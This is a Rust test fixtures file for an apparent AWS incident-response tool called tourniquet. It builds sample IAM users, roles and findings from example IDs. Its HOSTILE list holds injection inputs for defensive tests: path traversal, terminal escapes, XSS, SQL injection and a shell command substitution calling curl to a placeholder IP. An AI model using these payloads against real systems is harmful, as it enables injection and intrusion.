//! Fixtures: the sample events, a user and a role as IAM would describe them, and what a text may hold.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::LazyLock;

use tourniquet::containment::identity::{
    AccessKey, Credential, MfaDevice, Observed, ObservedRole, ObservedUser, Principal, ServiceCredential,
};
use tourniquet::containment::{AtSource, Responder};
use tourniquet::event::{Parsed, parse};
use tourniquet::finding::{Button, Finding, RoleSession, Target, Trigger, User};
use tourniquet::guardrails::Guardrails;
use tourniquet::id::{AccessKeyId, AccountId, Arn, InstanceId, Partition, PrincipalName, Region, SessionName, UniqueId};
use tourniquet::timestamp::Timestamp;

pub(crate) const ACCOUNT: &str = "111122223333";
pub(crate) const NOW: &str = "2026-11-21T20:48:00Z";
pub(crate) const FIRST_KEY: &str = "AKIASVCBUILDQEXAMPLE";
pub(crate) const SECOND_KEY: &str = "AKIASVCBUILD2SECONDQ";
pub(crate) const USER_ID: &str = "AIDASVCBUILDQ7EXAMPLE";
pub(crate) const ROLE_ID: &str = "AROADEVELOPERQEXAMPLE";
pub(crate) const INSTANCE: &str = "i-0a1b2c3d4e5f67890";

pub(crate) fn repository() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// Every sample event that is a finding, by name, in the order of names. Those that are not for `contain-identity` have
/// their function in front: `contain-instance/eks-node`.
pub(crate) fn samples() -> &'static [(String, Vec<u8>)] {
    static SAMPLES: LazyLock<Vec<(String, Vec<u8>)>> = LazyLock::new(read_samples);
    &SAMPLES
}

/// Samples that between them have the fields of every feed.
pub(crate) const ONE_OF_EACH_FEED: [&str; 13] = [
    "leaked-access-key",
    "instance-credentials-exfiltrated",
    "attack-sequence-one-actor",
    "leaked-access-key-security-hub-copy",
    "two-findings-custom-action",
    "leaked-access-key-ocsf-copy",
    "exposed-key-health",
    "access-analyzer-role",
    "macie-policy-user",
    "contain-instance/crypto-mining-instance",
    "contain-instance/attack-sequence-instance-and-its-role",
    "contain-instance/security-hub-copy",
    "contain-instance/ocsf-copy-instance",
];

fn read_samples() -> Vec<(String, Vec<u8>)> {
    let instances = events_for("contain-instance");
    let instances = instances.into_iter().map(|(name, bytes)| (format!("contain-instance/{name}"), bytes));
    let mut samples: Vec<_> = events_for("contain-identity").into_iter().chain(instances).collect();
    samples.sort();
    assert!(samples.len() > 90, "the sample events were not found");
    samples
}

/// The sample events for `function` by name, in the order of names.
pub(crate) fn events_for(function: &str) -> Vec<(String, Vec<u8>)> {
    let mut events: Vec<_> = std::fs::read_dir(repository().join("events").join(function))
        .expect("the sample events")
        .map(|entry| entry.expect("an event").path())
        .filter(|path| path.extension().is_some_and(|extension| extension == "json"))
        .map(|path| {
            let name = path.file_stem().expect("a name").to_string_lossy().into_owned();
            (name, std::fs::read(path).expect("an event"))
        })
        .collect();
    events.sort();
    events
}

pub(crate) fn sample(name: &str) -> Vec<u8> {
    samples().iter().find(|(known, _)| known == name).expect("a sample event").1.clone()
}

pub(crate) fn findings(bytes: &[u8]) -> Vec<Finding> {
    let finding = |parsed| match parsed {
        Parsed::Finding(finding) => Some(*finding),
        Parsed::Ignored(_) => None,
    };
    parse(bytes).into_iter().filter_map(finding).collect()
}

/// The one finding of a sample event.
pub(crate) fn finding(name: &str) -> Finding {
    static FINDINGS: LazyLock<BTreeMap<&'static str, Vec<Finding>>> =
        LazyLock::new(|| samples().iter().map(|(name, bytes)| (name.as_str(), findings(bytes))).collect());
    match &FINDINGS[name][..] {
        [finding] => finding.clone(),
        other => unreachable!("{name} holds {} findings", other.len()),
    }
}

pub(crate) fn shipped_text() -> String {
    std::fs::read_to_string(repository().join("infra/guardrails.toml")).expect("the shipped guardrails")
}

pub(crate) fn shipped() -> Guardrails {
    static SHIPPED: LazyLock<Guardrails> =
        LazyLock::new(|| Guardrails::parse("guardrails.toml", &shipped_text()).expect("the shipped guardrails hold together"));
    SHIPPED.clone()
}

pub(crate) fn at(text: &str) -> Timestamp {
    Timestamp::parse(text).expect("a timestamp")
}

pub(crate) fn now() -> Timestamp {
    at(NOW)
}

pub(crate) fn account() -> AccountId {
    AccountId::parse(ACCOUNT).expect("an account")
}

pub(crate) fn arn(text: &str) -> Arn {
    Arn::parse(text).expect("an ARN")
}

pub(crate) fn name(text: &str) -> PrincipalName {
    PrincipalName::parse(text).expect("an IAM name")
}

pub(crate) fn unique_id(text: &str) -> UniqueId {
    UniqueId::parse(text).expect("a unique id")
}

pub(crate) fn key(text: &str) -> AccessKeyId {
    AccessKeyId::parse(text).expect("an access key id")
}

pub(crate) fn session(text: &str) -> SessionName {
    SessionName::parse(text).expect("a session name")
}

/// The click on one of the buttons of the responder's account and Region.
pub(crate) fn pressed(button: Button) -> Trigger {
    Trigger::Button { action: button.action(&account(), &Region::parse("eu-west-1").expect("a Region")) }
}

pub(crate) fn responder() -> Responder {
    Responder {
        account: account(),
        partition: Partition::Aws,
        own_roles: vec![arn("arn:aws:iam::111122223333:role/contain-identity-role")],
        deny_group: Some("TourniquetDenied".to_owned()),
        members: Vec::new(),
    }
}

/// `svc-build`, accused by unique id and key.
pub(crate) fn accused_user() -> Target {
    Target::User(User { name: name("svc-build"), unique_id: Some(unique_id(USER_ID)), key: Some(key(FIRST_KEY)) })
}

/// `developer`, or one of its sessions.
pub(crate) fn accused_role(of: Option<&str>, instance: Option<&str>) -> Target {
    Target::RoleSession(RoleSession {
        role: name("developer"),
        role_id: Some(unique_id(ROLE_ID)),
        session: of.map(session),
        instance: instance.map(|id| InstanceId::parse(id).expect("an instance id")),
        key: None,
    })
}

/// `svc-build` with one of everything, and two access keys of which one is inactive already.
pub(crate) fn user() -> ObservedUser {
    ObservedUser {
        name: name("svc-build"),
        arn: arn("arn:aws:iam::111122223333:user/ci/svc-build"),
        unique_id: unique_id(USER_ID),
        tags: BTreeMap::new(),
        created: Some(at("2025-12-01T02:03:04Z")),
        password_last_used: Some(at("2026-11-20T08:00:00Z")),
        permissions_boundary: None,
        groups: vec!["builders".to_owned()],
        keys: vec![
            AccessKey { id: key(FIRST_KEY), active: true, created: Some(at("2026-01-02T03:04:05Z")), last_used: None },
            AccessKey { id: key(SECOND_KEY), active: false, created: None, last_used: None },
        ],
        login: Some((Some(at("2026-02-03T04:05:06Z")), false)),
        service_credentials: vec![
            ServiceCredential {
                id: "ACCABEDROCKQ7EXAMPLE".to_owned(),
                service: "bedrock.amazonaws.com".to_owned(),
                active: true,
                created: Some(at("2026-03-04T05:06:07Z")),
                expires: None,
            },
            ServiceCredential {
                id: "ACCACODECOMMQEXAMPLE".to_owned(),
                service: "codecommit.amazonaws.com".to_owned(),
                active: true,
                created: Some(at("2026-03-04T05:06:07Z")),
                expires: None,
            },
        ],
        ssh_keys: vec![Credential {
            id: "APKASSHKEYQ77EXAMPLE".to_owned(),
            active: true,
            uploaded: Some(at("2026-01-05T00:00:00Z")),
        }],
        certificates: vec![Credential { id: "CERTIFICATEQ7EXAMPLECERTIFICATEQ".to_owned(), active: true, uploaded: None }],
        mfa_devices: vec![MfaDevice {
            serial: "arn:aws:iam::111122223333:mfa/svc-build".to_owned(),
            enabled: Some(at("2025-12-01T03:00:00Z")),
        }],
        attached_policies: vec![arn("arn:aws:iam::aws:policy/ReadOnlyAccess")],
        deny: None,
        unread: Vec::new(),
    }
}

/// The role `developer`, in one instance profile.
pub(crate) fn role() -> ObservedRole {
    ObservedRole {
        name: name("developer"),
        arn: arn("arn:aws:iam::111122223333:role/people/developer"),
        unique_id: unique_id(ROLE_ID),
        tags: BTreeMap::new(),
        created: Some(at("2025-06-07T08:09:10Z")),
        last_used: None,
        permissions_boundary: None,
        attached_policies: vec![arn("arn:aws:iam::aws:policy/PowerUserAccess")],
        trust_policy: r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"sts:AssumeRole",
            "Principal":{"AWS":"arn:aws:iam::444455556666:root","Service":["ec2.amazonaws.com"]}}]}"#
            .to_owned(),
        instance_profiles: vec!["developer-box".to_owned()],
        revocation: None,
        session_deny: None,
        unread: Vec::new(),
    }
}

pub(crate) fn observed(principal: Principal) -> Observed {
    Observed { source: AtSource::NotKept, guardrails: Ok(shipped()), state: principal }
}

pub(crate) fn observed_user(user: ObservedUser) -> Observed {
    observed(Principal::User(Box::new(user)))
}

pub(crate) fn observed_role(role: ObservedRole) -> Observed {
    observed(Principal::Role(Box::new(role)))
}

/// Texts that finding fields must not be trusted with.
pub(crate) const HOSTILE: [&str; 16] = [
    "",
    " ",
    "\0",
    "*",
    "..",
    "../../guardrails.toml",
    "line one\nline two\r\n",
    "\u{1b}]0;owned\u{7}\u{1b}[2J",
    "\u{202e}gnp.exe\u{2066}\u{61c}",
    "\u{200b}\u{feff}\u{e0041}hidden",
    "<img src=x onerror=alert(1)>",
    "'; drop table findings; --",
    "$(curl http://203.0.113.1)`id`",
    "svc-build\u{301}",
    "arn:aws:iam::111122223333:user/../svc-build",
    "AROADEVELOPERQEXAMPLE:a:b",
];
